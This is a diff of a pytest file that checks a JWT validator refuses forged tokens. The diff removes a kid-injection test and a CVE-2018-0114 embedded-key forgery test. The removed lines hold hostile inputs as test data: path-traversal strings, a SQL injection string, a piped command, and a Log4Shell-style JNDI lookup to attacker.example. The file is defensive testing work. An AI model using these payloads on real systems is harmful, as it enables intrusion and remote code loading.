@@ -1,4 +1,4 @@
-"""The header says which key, and nothing else (RFC 8725 §3.5, §3.10, §3.11; ASVS 5.0 V9.1.3)."""
+"""The header says which key, and nothing else (RFC 8725 §3.10, §3.11; ASVS 5.0 V9.1.3)."""
 
 from __future__ import annotations
 
@@ -9,42 +9,6 @@ import pytest
 from tests.attacks.forging import MISSING, b64, changed, forged, parts_of, signed
 
 FLAG = "attacker.example"
-
-
-@pytest.mark.parametrize(
-    "kid",
-    [
-        MISSING,
-        None,
-        "",
-        0,
-        1.5,
-        True,
-        [],
-        ["kid"],
-        {"kid": "kid"},
-        "unknown",
-        "../../../../dev/null",
-        "/proc/sys/kernel/randomize_va_space",
-        "' UNION SELECT 'key' --",
-        "key\0",
-        "key\n",
-        "\ud800",
-        "|/bin/true",
-        "${jndi:ldap://attacker.example}",
-        "x" * 5000,
-    ],
-    ids=lambda kid: repr(kid)[:30] if kid is not MISSING else "missing",
-)
-def test_kid_injection(phone, assert_refused, kid):
-    """A kid is compared, never used as a path, a query or a URL."""
-    assert_refused(forged(phone.access, {"kid": kid}))
-
-
-def test_kid_naming_an_empty_file_with_an_empty_key(phone, assert_refused):
-    head, body = parts_of(phone.access)
-    token = signed(changed(head, {"kid": "../../dev/null"}), changed(body, {}), b"")
-    assert_refused(token)
 
 
 @pytest.mark.parametrize(
@@ -71,16 +35,8 @@ def test_kid_naming_an_empty_file_with_an_empty_key(phone, assert_refused):
     ids=json.dumps,
 )
 def test_a_parameter_that_is_none_of_ours(phone, assert_refused, parameter):
-    """Not obeyed and not ignored: refused, though the signature is right."""
+    """RFC 7515 §4.1.11, RFC 7797, RFC 8725 §3.6: refused, though the signature is right."""
     assert_refused(forged(phone.access, parameter))
-
-
-def test_an_embedded_key_that_signed_the_token_itself(phone, assert_refused):
-    """RFC 8725 §3.5: CVE-2018-0114."""
-    own = b"attacker's own key of 32 bytes!!"
-    head, body = parts_of(phone.access)
-    jwk = {"kty": "oct", "k": b64(own), "kid": head["kid"]}
-    assert_refused(signed(changed(head, {"jwk": jwk}), changed(body, {}), own))
 
 
 @pytest.mark.parametrize(
@@ -112,7 +68,7 @@ def test_a_name_twice_in_the_header(phone, assert_refused, name):
 
 @pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-8-sig"])
 def test_a_header_in_another_encoding(phone, assert_refused, encoding):
-    """RFC 8259 §8.1: JSON is UTF-8. Python's reader would guess."""
+    """RFC 8725 §3.7, RFC 8259 §8.1: JSON is UTF-8. Python's reader would guess."""
     head, body = parts_of(phone.access)
     assert_refused(signed(json.dumps(head).encode(encoding), changed(body, {})))
 
